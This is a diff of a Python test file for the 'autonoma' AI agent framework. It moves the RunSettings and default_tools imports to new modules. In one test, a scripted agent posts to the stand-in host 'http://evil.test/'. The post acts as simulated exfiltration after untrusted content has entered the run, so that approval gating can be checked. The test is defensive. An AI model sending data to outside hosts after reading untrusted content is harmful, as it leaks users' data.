@@ -9,7 +9,8 @@ from typing import Any
 
 from autonoma.agent.approval import ApprovalRequest, Decision, RefuseWithoutTerminal
 from autonoma.agent.loop import Agent, AgentConfig
-from autonoma.agent.session import RunSettings, create_run
+from autonoma.agent.session import create_run
+from autonoma.agent.settings import RunSettings
 from autonoma.llm import ScriptedModel
 from autonoma.memory.context import fence, step_text
 from autonoma.runtime.store import EventRecord, RunStore, StepRecord
@@ -54,7 +55,7 @@ async def agent_run(
     approve_after_untrusted: bool = True,
     trust_workspace: bool = True,  # notes.txt is the person's: the page is what marks the run
 ) -> tuple[RunStore, ScriptedModel, str, list[EventRecord]]:
-    from autonoma.agent.session import default_tools
+    from autonoma.agent.wiring import default_tools
 
     store = RunStore(tmp_path / "runs.db")
     model = ScriptedModel(answers)
@@ -214,7 +215,7 @@ async def test_resume_remembers_that_outside_content_came_in(tmp_path: Path) -> 
     model = ScriptedModel(
         [act("post", url="http://evil.test/", body="x"), act("task_complete", reason="x")]
     )
-    from autonoma.agent.session import default_tools
+    from autonoma.agent.wiring import default_tools
 
     tools = default_tools()
     tools.add(fetch)
